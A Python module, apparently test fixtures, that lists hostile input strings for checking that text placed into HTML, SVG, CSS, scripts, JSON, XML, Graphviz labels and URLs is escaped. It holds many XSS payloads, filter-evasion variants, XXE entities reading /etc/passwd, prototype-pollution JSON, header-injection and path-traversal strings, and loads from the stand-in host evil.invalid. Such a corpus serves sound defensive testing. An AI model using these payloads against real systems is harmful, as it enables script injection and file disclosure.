"""Texts of strangers that mean harm, for every language that a map's text is carried through.

Each tries to leave the place it is put into: as HTML, SVG, CSS, a script, JSON, XML, DOT or a label
of Graphviz, or an address. One that got out would open a dialog, ask for something, or be gone from
where it should be read.
"""

_RUN = "alert(1)"
_FAR = "https://evil.invalid/x"

_ENDINGS = (
    *("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "*/", "\\", "</", "?>", "%>", "}}", "${"),
    *("</text>", "</title>", "</desc>", "</g></svg>", "</style>", "</script>", "</textarea>"),
    *("</h2>", "</option></select>", "</noscript>", "</template>", "</iframe>", "</xmp>"),
)
"""What a payload closes before it begins."""

_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
)

_MARKUP = (
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src={_FAR}.js></script>",
    "<script src=//evil.invalid/x.js></script>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<img/src=x/onerror={_RUN}//",
    f"<img src={_FAR}.png>",
    f'<img srcset="{_FAR} 1x">',
    f"<body onload={_RUN}>",
    f"<body background={_FAR}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data={_FAR}></object>",
    f"<embed src={_FAR}>",
    f"<link rel=stylesheet href={_FAR}.css>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<base href={_FAR}>",
    f"<form action={_FAR}><button autofocus onfocus={_RUN}>x</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video src={_FAR} onerror={_RUN}></video>",
    f"<audio src={_FAR} onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<a href=javascript:{_RUN}>x</a>",
    f'<div style="background:url({_FAR})">x</div>',
    f"<p tabindex=0 onfocus={_RUN} autofocus>x</p>",
    f"<!--><script>{_RUN}</script>-->",
    f"<!-- --!><img src=x onerror={_RUN}>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml-stylesheet href='{_FAR}.xsl' type='text/xsl'?>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{_FAR}'>]>&y;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&nosuch; &#0; &#xD800; &#x110000; &",
    "<plaintext>",
    "<textarea>",
    "<noscript>",
    "<title>",
    "<style>*{display:none}",
    "<xmp>",
)

_PICTURES = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={_FAR}.js /></svg>",
    f"<svg><script xlink:href=data:,{_RUN} /></svg>",
    f"<svg><image href={_FAR}.png onerror={_RUN} /></svg>",
    f"<svg><use href={_FAR}.svg#x /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s /></svg>",
    f"<svg><set attributeName=onmouseover to={_RUN} /></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><style>@import url({_FAR}.css);</style></svg>",
    f"<svg><filter><feImage href={_FAR} /></filter></svg>",
    f"<svg><handler ev:event=load>{_RUN}</handler></svg>",
    f'" onload="{_RUN}" x="',
    f"' onload='{_RUN}' x='",
    f'" onmouseover={_RUN} style="position:fixed;inset:0',
    f'x" transform="scale(99)" onclick="{_RUN}',
    f'" autofocus tabindex="0" onfocus="{_RUN}',
    f'"/><script xmlns="http://www.w3.org/2000/svg">{_RUN}</script><g id="',
)

_STYLES = (
    f"}}*{{background:url({_FAR})}}",
    f"@import '{_FAR}.css';",
    f"expression({_RUN})",
    f"url(javascript:{_RUN})",
    f"</style><script>{_RUN}</script>",
    "}body{display:none}",
    "\\3c script\\3e",
    "/*",
    "*/",
    f"@font-face{{font-family:x;src:url({_FAR})}}",
    f"image-set('{_FAR}' 1x)",
    "#x{content:'\\0041'}",
)

_SCRIPTS = (
    f'";{_RUN};//',
    f"';{_RUN};//",
    f"`;{_RUN};//",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f'\\";{_RUN};//',
    f"\u2028{_RUN}\u2029",
    f"\n{_RUN}\n//",
    f"*/{_RUN}/*",
    f"<!--<script>{_RUN}",
    f"--></script><script>{_RUN}</script>",
    f"</script ><script>{_RUN}</script>",
    f"</SCRIPT><script>{_RUN}</script>",
    '"},{"__proto__":{"x":1}},{"',
    '{"__proto__": {"isAway": true}}',
    "__proto__",
    "constructor",
    "toString",
    "$title $style $script $data $$ ${data}",
    "{{title}} {% x %} <%= x %> #{x}",
    "undefined",
    "null",
    "NaN",
)

_GRAPHS = (
    '"]; x [label="y',
    '"; } digraph { a -> b [URL="javascript:alert(1)"]; "',
    ">]; x -> y [label=<",
    "<IMG SRC='/etc/passwd'/>",
    f"<IMG SRC='{_FAR}.png'/>",
    "<TABLE><TR><TD HREF='javascript:alert(1)'>x</TD></TR></TABLE>",
    "<BR/><B>x</B><FONT COLOR='red'>y</FONT>",
    "\\N \\G \\E \\T \\H \\L",
    "\\n\\l\\r",
    "\\\\N",
    "\\",
    "\\\\",
    "{ rank=same; a }",
    "subgraph cluster_x { a }",
    "// not a comment",
    "/* not a comment */",
    "# not a line of the preprocessor",
    "a:port:n -> b",
    'shapefile="/etc/passwd" imagepath="/etc"',
    "&#65; &copy; &nbsp;",
    "-> -- [ ] { } ; , = < > |",
)

_LETTERS = (
    "a\x00b",
    "a\x01\x02\x1b[31mb",
    "a\x7f\x80\x9fb",
    "a\ufffe\uffffb",
    "a\ud800b",
    "a\u202eb\u202c c",
    "a\u2066b\u2069 c",
    "a\u200bb\u200db\ufeffb",
    "a\u0085b\u2028c\u2029d",
    "\u0301\u0302\u0303 above",
    "Z\u0334\u0335\u0336\u0337\u0338algo",
    "＜script＞alert(1)＜/script＞",
    "ʺ›‹ ＂＇",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%00%0d%0aX-Injected: 1",
    "../../../../etc/passwd",
    "\U0001f600\U0001f1f9\U0001f1f7",
    "w" * 500,
    "<" * 120,
    '"' * 120,
    "&" * 120,
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:/*--></script>*/alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript\u200b:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://evil.invalid/x",
    "file:///etc/passwd",
    "filesystem:x",
    "view-source:x",
    "about:blank",
    "ftp://evil.invalid/",
    "//evil.invalid/x",
    "/evil.invalid/x",
    "\\\\evil.invalid\\share",
    "/\\evil.invalid",
    "https:\\\\evil.invalid",
    'https://evil.invalid/" onclick="alert(1)',
    "https://evil.invalid/'onclick='alert(1)",
    "https://evil.invalid/><script>alert(1)</script>",
    "https://evil.invalid/\x00",
    "https://evil.invalid/\u2028x",
    "http:javascript:alert(1)",
    "mailto:a@b.invalid?subject=<script>alert(1)</script>",
    "intent://x#Intent;scheme=javascript;end",
    "tel:1",
    "#x",
    "?x",
)
"""What is given as a web address; it may be linked if it is one, and never in another scheme."""

VECTORS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(f"{ending}{element}" for element in _ELEMENTS for ending in _ENDINGS),
            *(*_MARKUP, *_PICTURES, *_STYLES, *_SCRIPTS, *_GRAPHS, *_LETTERS, *ADDRESSES),
        ]
    )
)
"""All of them, each once."""
